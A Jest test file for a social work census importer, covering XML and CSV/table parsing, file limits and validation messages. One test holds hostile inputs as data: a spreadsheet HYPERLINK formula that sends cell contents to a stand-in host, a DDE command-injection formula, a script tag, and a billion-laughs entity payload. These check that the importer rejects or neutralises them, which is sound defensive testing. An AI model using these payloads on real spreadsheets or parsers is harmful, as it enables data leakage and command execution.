/**
 * Census returns shaped by someone else: other orderings, missing optional items, hostile
 * text, a huge file, malformed XML, and tables with title rows, labels and Excel serials.
 */
import {
  analyseCensus,
  analyseCensusFile,
  dayNumber,
  describeProblem,
  MAX_CENSUS_BYTES,
  readCensusTable,
  readCensusXml,
} from "../../../src/core/census";

const ref = "2024-09-30";
const worker = (items: Record<string, string>, reverse = false) => {
  const entries = Object.entries(items);
  if (reverse) entries.reverse();
  return `<CSWWWorker>${entries.map(([k, v]) => `<${k}>${v}</${k}>`).join("")}</CSWWWorker>`;
};
const header = `<Header><CollectionDetails><Collection>CSWW</Collection><Year>2024</Year><ReferenceDate>${ref}</ReferenceDate></CollectionDetails><Source><LEA>201</LEA></Source></Header>`;
const vacancies =
  "<LALevelVacancies><NumberOfVacancies>3.00</NumberOfVacancies><NoAgencyFTE>1.00</NoAgencyFTE><NoAgencyHeadcount>1</NoAgencyHeadcount></LALevelVacancies>";

const permanent = {
  AgencyWorker: "0",
  SWENo: "SW100001",
  FTE: "1.000000",
  PersonBirthDate: "1980-01-01",
  GenderCurrent: "2",
  Ethnicity: "WBRI",
  QualInst: "Uni",
  RoleStartDate: "2015-01-01",
  StartOrigin: "2",
  FTE30: "1.000000",
  Cases30: "16",
  WorkingDaysLost: "10.00",
};
const leaver = {
  ...permanent,
  SWENo: "SW100002",
  FTE: "0.500000",
  RoleEndDate: "2024-03-31",
  ReasonLeave: "1",
  LeaverDestination: "3",
};
const agency = { AgencyWorker: "1", SWENo: "SW100003", FTE30: "0.800000", Cases30: "20" };

describe("census returns in other shapes", () => {
  const plain = analyseCensusFile(
    `<Message>${header}${vacancies}${worker(permanent)}${worker(leaver)}${worker(agency)}</Message>`,
  );

  it("gives the same figures whatever the order of elements and items", () => {
    const shuffled = analyseCensusFile(
      `<?xml version="1.0"?>\n<Message>${worker(agency, true)}${worker(leaver, true)}${vacancies}${worker(permanent, true)}${header}</Message>`,
    );
    expect(shuffled.indicators).toEqual(plain.indicators);
    expect(plain.indicators).toMatchObject({
      inpost_fte: 1,
      leavers_fte: 0.5,
      agency_fte: 0.8,
      cases: 36,
      case_holders_fte: 1.8,
      vacancy_fte: 3,
    });
    expect(plain.problems).toEqual([]);
  });

  it("reads a worker with only the required items, and says what it cannot count", () => {
    const bare = analyseCensusFile(
      `<Message>${header}${vacancies}${worker({ AgencyWorker: "0", SWENo: "SW1" })}</Message>`,
    );
    expect(bare.indicators.inpost_headcount).toBe(1);
    expect(bare.indicators.inpost_fte).toBe(0);
    expect(bare.problems.map(describeProblem)).toEqual([
      "worker 1: FTE30 and FTE are both missing: the worker counts in headcounts but adds nothing to FTE",
    ]);
  });

  it("keeps hostile text as text and reports it against the item", () => {
    const hostile = analyseCensusFile(
      `<Message>${header}${vacancies}${worker({
        ...permanent,
        QualInst: "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1)",
        Ethnicity: "=cmd|' /C calc'!A0",
        SWENo: "&lt;script&gt;alert(1)&lt;/script&gt;",
      })}</Message>`,
    );
    expect(hostile.census.workers[0].items.QualInst).toEqual([
      '=HYPERLINK("http://evil.example/?"&A1)',
    ]);
    const lines = hostile.problems.map(describeProblem);
    expect(lines).toEqual(
      expect.arrayContaining([
        expect.stringMatching(
          /^worker 1: Ethnicity "=cmd\|' \/C calc'!A0" is not one of the census codes/,
        ),
        expect.stringMatching(
          /^worker 1: SWENo "<script>alert\(1\)<\/script>" must be a Social Work England number/,
        ),
      ]),
    );
    // The worker is still counted: nothing is dropped because one item is wrong.
    expect(hostile.indicators.inpost_headcount).toBe(1);
  });

  it("refuses a file over 20 MB with a message, without reading it", () => {
    const huge = "<Message>" + " ".repeat(MAX_CENSUS_BYTES) + "</Message>";
    const analysis = analyseCensusFile(huge);
    expect(analysis.workers).toEqual([]);
    expect(analysis.problems[0].reason).toMatch(
      /^The file is 20\.0 MB; census returns up to 20\.0 MB/,
    );
    expect(analyseCensusFile("x", { bytes: 25 * 1024 * 1024 }).problems[0].reason).toMatch(
      /25\.0 MB/,
    );
  });

  it("explains malformed XML with its line and column", () => {
    const broken = readCensusXml(`<Message>\n${header}\n<CSWWWorker><SWENo>SW1</CSWWWorker>`);
    expect(broken.fileProblems[0]).toMatch(
      /^The file is not well-formed XML \(line 3, column \d+\)/,
    );
    expect(readCensusXml("").fileProblems).toEqual(["The file is empty."]);
    expect(readCensusXml("<Return><Worker/></Return>").fileProblems[0]).toMatch(
      /root element is Return, not Message/,
    );
  });

  it("refuses a DOCTYPE, so entity expansion (a billion laughs) cannot run", () => {
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><Message><CSWWWorker><QualInst>&lol2;</QualInst></CSWWWorker></Message>`;
    expect(readCensusXml(laughs).fileProblems).toEqual([
      "The file has a DOCTYPE declaration, which census returns never have.",
    ]);
  });

  it("reports elements that are not census items rather than dropping them unseen", () => {
    const extra = analyseCensusFile(
      `<Message>${header}${vacancies}${worker({ ...permanent, NINumber: "AB123456C" })}<Comment>x</Comment></Message>`,
    );
    expect(extra.problems.map(describeProblem)).toEqual([
      "File: The return has an element Comment, which is not part of the census.",
      "worker 1: has an element NINumber, which is not a census item; it was not read",
    ]);
  });
});

describe("census workers read from a table", () => {
  it("finds the header below title rows, in any column order, with labels, serials and blanks", () => {
    const rows = [
      ["Children's services workforce return", null, null, null, null, null],
      [null, null, null, null, null, null],
      [
        "swe_no",
        "Agency Worker",
        "FTE30",
        "GenderCurrent",
        "GenderCurrent (label)",
        "Role Start Date",
        "StartOrigin",
        "Notes",
      ],
      ["SW1", 0, 1, "Female", "Female", 45000, 2, "fine"],
      [null, null, null, null, null, null, null, null],
      ["SW2", false, 0.5, 1, "Male", "01/02/2024", "Newly qualified social worker", ""],
      ["SW3", "1", 0.6, "9", "", "", "", ""],
    ];
    const table = readCensusTable(rows);
    expect(table.workers.map((w) => w.source)).toEqual(["row 4", "row 6", "row 7"]);
    expect(table.blankRows).toBe(1);
    expect(table.fileProblems).toEqual([]);
    expect(table.fileWarnings).toEqual(["Columns that are not census items were not read: Notes."]);
    expect(table.workers[0].items).toMatchObject({
      AgencyWorker: ["0"],
      GenderCurrent: ["Female"],
      RoleStartDate: ["2023-03-15"],
    });
    const analysis = analyseCensus(table, { reference: dayNumber(2024, 9, 30), lenient: true });
    expect(analysis.problems.map((p) => p.severity)).toEqual(["warning"]);
    expect(analysis.workers[0].gender).toBe("2");
    expect(analysis.workers[1].start).toBe(dayNumber(2024, 2, 1));
    expect(analysis.workers[1].startOrigin).toBe("1");
    expect(analysis.indicators).toMatchObject({
      inpost_fte: 1.5,
      agency_fte: 0.6,
      starters_fte: 0.5,
    });
  });

  it("says so when a table has no census headers, or lacks SWENo or AgencyWorker", () => {
    expect(readCensusTable([["Team", "FTE", "Status"]]).fileProblems[0]).toMatch(
      /No header row naming census items/,
    );
    expect(
      readCensusTable([
        ["FTE", "Cases30"],
        [1, 2],
      ]).fileProblems,
    ).toEqual(["the table has no SWENo column.", "the table has no AgencyWorker column."]);
  });

  it("reads a CSV file through the same import as XML", () => {
    const csv = "AgencyWorker,SWENo,FTE,Cases30\r\n0,SW1,1,12\r\n1,SW2,0.5,-3\r\n";
    const analysis = analyseCensusFile(csv, { reference: dayNumber(2024, 9, 30) });
    expect(analysis.referenceSource).toBe("given");
    expect(analysis.indicators).toMatchObject({ inpost_fte: 1, agency_fte: 0.5, cases: 12 });
    expect(analysis.problems.map(describeProblem)).toEqual([
      'row 3: Cases30 "-3" must be a whole number of at least 0',
    ]);
  });
});
